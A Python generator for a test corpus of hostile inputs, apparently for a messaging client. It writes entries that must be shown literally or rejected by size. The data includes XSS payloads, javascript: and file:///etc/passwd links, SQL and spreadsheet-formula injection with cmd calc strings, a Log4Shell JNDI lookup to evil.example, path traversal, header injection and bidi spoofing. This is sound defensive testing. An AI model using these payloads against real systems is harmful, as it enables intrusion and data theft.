"""Writes tests/reliability/corpus/hostile.jsonl: the hostile and odd inputs every path must
show literally without loading anything or crashing.

Run `python -m tests.reliability.make_corpus` after changing it; the file is committed so a
failure names a stable entry. Each line: {"id", "category", "field" (text, name, handle,
subject or url), "value" (or "base64" for bytes that are not UTF-8), optional "repeat",
"prefix" and "suffix" (the input is prefix + value * repeat + suffix, for the big ones) and
"expect" ("stored" or "rejected")}.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

OUT = Path(__file__).with_name("corpus") / "hostile.jsonl"
Entry = dict[str, Any]
Made = tuple[str, str] | Entry  # (field, value), or an entry with its own parts


def _html() -> Iterator[Made]:
    yield from (("text", v) for v in (
        "<script>alert(1)</script>", "<b>bold</b> and <i>italic</i>", "<h1>huge heading</h1>",
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src='https://evil.example'>",
        "<style>body{display:none}</style>hidden?", "<marquee>moving</marquee>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>", "<base href='file:///'>",
        "<object data='file:///etc/passwd'></object>", "<embed src='https://evil.example/x.swf'>",
        "<form action='https://evil.example'><input name=p></form>",
        "<table><tr><td>cell</td></tr></table>",
        "<qt><b>Qt rich text</b></qt>", "<html><body bgcolor=red>page</body></html>",
        "<!-- a comment --> after", "&lt;b&gt;escaped&lt;/b&gt; &amp;amp; &#x3C;",
        "<p style='font-size:900px'>big</p>",
        "<font size=100 color=red>FONT</font>", "<pre>" + "x " * 200 + "</pre>",
        "<ul>" + "<li>item</li>" * 300 + "</ul>", "<b>" * 2000 + "deep" + "</b>" * 2000,
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
        "<a href='https://evil.example' style='display:block;height:5000px'>tall</a>",
        "<hr width=99999>", "<br>" * 500, "<video src='file:///dev/zero' autoplay>",
        "<audio src='https://evil.example/a.mp3' autoplay>", "</textarea><script>x</script>",
        "<<script>script>alert(1)<</script>/script>", "<scr<script>ipt>alert(1)</script>",
        "<math><mi xlink:href='javascript:alert(1)'>m</mi></math>",
        "[b]bbcode[/b] [img]file:///x[/img]",
        "**markdown** _em_ `code` # heading", "![img](file:///etc/passwd)",
        "[link](javascript:alert(1))",
        "<img src='qrc:/icons/reply.svg'>", "<img src=':/icons/serambi.svg'>"))
    yield ("name", "<b>Bold Name</b><img src=file:///etc/passwd>")
    yield ("subject", "<script>document.title='x'</script>Subject")
    yield ("handle", "@<i>handle</i>")


def _images() -> Iterator[Made]:
    png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJ"
           "RU5ErkJggg==")
    yield from (("text", v) for v in (
        "<img src='file:///etc/passwd'>", "<img src=file:///C:/Windows/win.ini>",
        "<img src='file://server/share/x.png'>", f"<img src='data:image/png;base64,{png}'>",
        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>'>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img src='https://tracker.example/pixel.gif?uid=1'>", "<img src='http://10.0.0.1/x.png'>",
        "<img width=100000 height=100000 src='https://evil.example/big.png'>",
        "<img width='99999999999' src=x>", "<img height=-1 width=-1 src=x>",
        "<img src='//evil.example/protocol-relative.png'>", "<img srcset='file:///etc/passwd 2x'>",
        "<div style=\"background:url('file:///etc/passwd')\">bg</div>",
        "<div style=\"background-image:url(https://evil.example/t.gif)\">bg</div>",
        "<img src='smb://evil.example/share/x.png'>", "<img src='ftp://evil.example/x.png'>",
        "<img src=x>" * 500, "<image src='file:///etc/passwd'>", "<input type=image src='file:///x'>"))
    yield {"field": "text", "prefix": "<img src='", "value": "A", "repeat": 100_000,
           "suffix": "'>"}
    yield {"field": "text", "prefix": "<img src='data:image/png;base64,", "value": png,
           "repeat": 2000, "suffix": "'>"}
    yield ("name", "<img src='https://tracker.example/n.gif'>Name")
    yield ("url", "file:///etc/passwd")
    yield ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")


def _links() -> Iterator[Made]:
    yield from (("url", v) for v in (
        "javascript:alert(1)", "JaVaScRiPt:alert(document.cookie)", " javascript:alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/shadow",
        "\\\\server\\share\\evil.exe", "https://evil.example/\u202egnp.exe", "https://xn--80ak6aa92e.com",
        "https://user:pass@evil.example", "https://evil.example/%00%0d%0aSet-Cookie:x",
        "ms-settings:", "mailto:victim@example.com?body=hi", "tel:+6281234567", "about:blank",
        "qrc:/icons/reply.svg", "https://" + "a" * 1980 + ".example"))
    yield from (("text", v) for v in (
        "<a href='javascript:alert(1)'>click me</a>", "visit javascript:alert(1) now",
        "<a href='file:///etc/passwd'>passwords</a>", "<a href=\"data:text/html,x\">data</a>"))


def _bidi() -> Iterator[Made]:
    yield from (("text", v) for v in (
        "invoice\u202efdp.exe", "\u202eevil right-to-left override", "abc\u202ddef\u202c",
        "\u2066isolate\u2069 \u2067rtl isolate\u2069 \u2068first strong\u2069",
        "\u200fRLM\u200eLRM",
        "mixed \u05e9\u05dc\u05d5\u05dd English \u0645\u0631\u062d\u0628\u0627",
        "\u202a\u202b\u202c\u202d\u202e" * 200, "\u061c arabic letter mark",
        "price: \u202e001$\u202c"))
    yield {"field": "text", "value": "\u202e", "repeat": 5000, "suffix": "end"}
    yield ("name", "Eve \u202egnp.exe")
    yield ("name", "\u202e\u202e\u202eadmin")
    yield ("handle", "@\u202etoor")
    yield ("subject", "Re: \u202eyrgent\u202c payment")
    yield ("url", "https://bank.example/\u202elogin")


def _zero_width() -> Iterator[Made]:
    yield from (("text", v) for v in (
        "pay\u200bpal", "zero\u200cwidth\u200djoiner", "\u2060word\u2060joiner\u2060",
        "\ufeffbyte order mark", "mongolian\u180evowel", "\u200b" * 10_000,
        "a\u00adsoft\u00adhyphen", "\u2062invisible\u2063times\u2064", "\u115f\u1160hangul filler",
        "\u3164hangul filler letter", "\u034fcombining grapheme joiner",
        "tag\U000e0041\U000e0042chars"))
    yield ("name", "\u200b")
    yield ("name", "\u200b\u200c\u200d\ufeff")
    yield ("handle", "@ad\u200bmin")


def _combining() -> Iterator[Made]:
    marks = "".join(chr(c) for c in range(0x0300, 0x036F))
    yield from (("text", v) for v in (
        "Z" + marks * 5, "zalgo " + ("e" + marks[:30]) * 50, marks * 300,
        " " + "\u0336" * 2000, "\u0e47" * 3000,
        "\u1ab0\u1ab1\u1ab2" * 1000, "\u20d0\u20d1\u20e3" * 1000, "ﷺ" * 500, "꧅" * 500,
        "\u0bcd" * 3000, "ล้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้้"))
    yield {"field": "text", "prefix": "a", "value": "\u0301", "repeat": 10_000}
    yield ("name", "N" + marks * 4)  # 445 characters: names are kept up to 500
    yield ("subject", "S" + "\u0301" * 1999)


def _big() -> Iterator[Entry]:
    yield {"field": "text", "value": "a", "repeat": 999_999, "expect": "stored"}
    yield {"field": "text", "value": "a", "repeat": 1_000_000, "expect": "stored"}
    yield {"field": "text", "value": "b", "repeat": 1_000_001, "expect": "rejected"}
    yield {"field": "text", "value": "😀", "repeat": 250_000, "expect": "stored"}  # 1 MB UTF-8
    yield {"field": "text", "value": "kata ", "repeat": 200_000, "expect": "stored"}
    yield {"field": "text", "value": "line\n", "repeat": 100_000, "expect": "stored"}
    yield {"field": "text", "value": "\u0645\u0631\u062d\u0628\u0627 ", "repeat": 150_000,
           "expect": "stored"}
    yield {"field": "text", "value": "<b>x</b>", "repeat": 120_000, "expect": "stored"}
    yield {"field": "subject", "value": "s", "repeat": 2000, "expect": "stored"}
    yield {"field": "subject", "value": "s", "repeat": 2001, "expect": "rejected"}


def _controls() -> Iterator[Made]:
    yield from (("text", v) for v in (
        "nul\x00inside", "\x00", "\x00" * 1000, "bell\x07 backspace\x08 escape\x1b[31mred\x1b[0m",
        "osc8 \x1b]8;;file:///etc/passwd\x07link\x1b]8;;\x07", "form\x0cfeed vertical\x0btab",
        "del\x7f nel\x85 line\u2028sep para\u2029sep", "carriage\rreturn only", "\r\n\r\n\r\n",
        "tab\tseparated\tvalues", "".join(chr(c) for c in range(1, 32))))
    yield ("name", "nul\x00name")
    yield ("subject", "sub\x00ject\r\nBcc: victim@example.com")
    yield ("handle", "@nul\x00")


def _surrogates() -> Iterator[Entry]:
    for value in ("\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "end\ud83d",
                  "\udbff\udfff\ud800", "\ud800" * 500):
        yield {"field": "text", "value": value, "expect": "stored"}
    yield {"field": "name", "value": "lone \udc80 surrogate", "expect": "stored"}
    for raw in (b"\xff\xfe", b"bad \xc0\xaf overlong", b"\xed\xa0\x80 encoded surrogate",
                b"cut \xe2\x82", b"\x80 continuation", b"\xf8\x88\x80\x80\x80 five bytes",
                b"\xf4\x90\x80\x80 beyond U+10FFFF", b"latin-1 caf\xe9", b"\xfe\xff\x00h\x00i",
                b"ok then \xff"):
        yield {"field": "text", "base64": base64.b64encode(raw).decode(), "expect": "stored"}


def _emoji() -> Iterator[Made]:
    family = "\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466"
    yield from (("text", v) for v in (
        family * 1000, "\U0001F1EE\U0001F1E9" * 500, "\U0001F44B\U0001F3FD" * 1000,
        "1\ufe0f\u20e3#\ufe0f\u20e3" * 500, "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E"
        "\U000E0067\U000E007F" * 300, "\u2764\ufe0f" * 2000, "\U0001F600" * 10_000,
        "\U0001F9D1\u200d\U0001F91D\u200d\U0001F9D1" * 800, "\u200d" * 1000 + "\U0001F600",
        "\ufe0f" * 5000, "\U0001F1EE" * 999, "\U0001FAE0\U0001FAE8\U0001FAAF new emoji",
        "🏳️‍🌈🏳️‍⚧️👩🏿‍🚀🧑🏻‍🦯‍➡️" * 200, "🙂🙃" * 3000, "text 😀 mixed 🇮🇩 in 👋🏽 line"))
    yield ("name", family * 50)
    yield ("handle", "@\U0001F600\U0001F600")
    yield ("subject", "\U0001F525" * 500)


def _misc() -> Iterator[Made]:
    yield from (("text", v) for v in (
        "x" * 100_000, "%s %n %x {0} {} {{}} %1 %L1 $1 ${HOME}", "'; DROP TABLE messages; --",
        "\" OR 1=1 --", "NEAR(a b) AND OR NOT * ^ \"unbalanced", "message_search MATCH 'x'",
        "=HYPERLINK(\"https://evil.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "../../../../etc/passwd",
        "C:\\Windows\\System32\\cmd.exe", "${jndi:ldap://evil.example/a}", "{{7*7}} {% if %}",
        "\\u0000 \\x00 literal escapes", "ｆｕｌｌｗｉｄｔｈ", "𝕳𝖔𝖒𝖔𝖌𝖑𝖞𝖕𝖍𝖘", "аррӏе.com cyrillic",
        "ǅ ǈ ǋ titlecase", "İstanbul ß ﬁ casefold", "\u00a0\u2003\u3000 odd spaces",
        "日本語のテキスト" * 2000, "한국어 " * 3000, "\u0e01\u0e34" * 4000, "﷽" * 300,
        "null", "undefined", "None", "true", "0", "-1", "NaN", "[]", "{}",
        "   leading and trailing   "))
    yield ("name", "Robert'); DROP TABLE members;--")
    yield ("name", "=HYPERLINK(\"https://evil.example\")")
    yield ("handle", "@" + "h" * 499)
    yield ("subject", "%s%s%s%n")


def entries() -> list[Entry]:
    out: list[Entry] = []
    simple = {"html": _html, "images": _images, "links": _links, "bidi": _bidi,
              "zero-width": _zero_width, "combining": _combining, "controls": _controls,
              "emoji": _emoji, "misc": _misc}
    for category, make in simple.items():
        for n, made in enumerate(make(), 1):
            entry = made if isinstance(made, dict) else {"field": made[0], "value": made[1]}
            out.append({"id": f"{category}-{n:03d}", "category": category,
                        "expect": "stored", **entry})
    for category, rich in (("big", _big), ("surrogates", _surrogates)):
        for n, entry in enumerate(rich(), 1):
            out.append({"id": f"{category}-{n:03d}", "category": category, **entry})
    return out


def _compact(entry: Entry) -> Entry:
    """A long value that is one short unit repeated is written as the unit and a count."""
    value = entry.get("value")
    if not isinstance(value, str) or len(value) < 1000 or "repeat" in entry or "prefix" in entry:
        return entry
    for period in range(1, 400):
        if len(value) % period == 0 and value == value[:period] * (len(value) // period):
            return {**entry, "value": value[:period], "repeat": len(value) // period}
    return entry


def main() -> None:
    OUT.parent.mkdir(exist_ok=True)
    with OUT.open("w", encoding="utf-8") as f:
        for entry in entries():
            # ASCII with \u escapes: lone surrogates and controls survive as JSON escapes.
            f.write(json.dumps(_compact(entry), ensure_ascii=True) + "\n")
    print(f"wrote {len(entries())} entries to {OUT}")


if __name__ == "__main__":
    main()
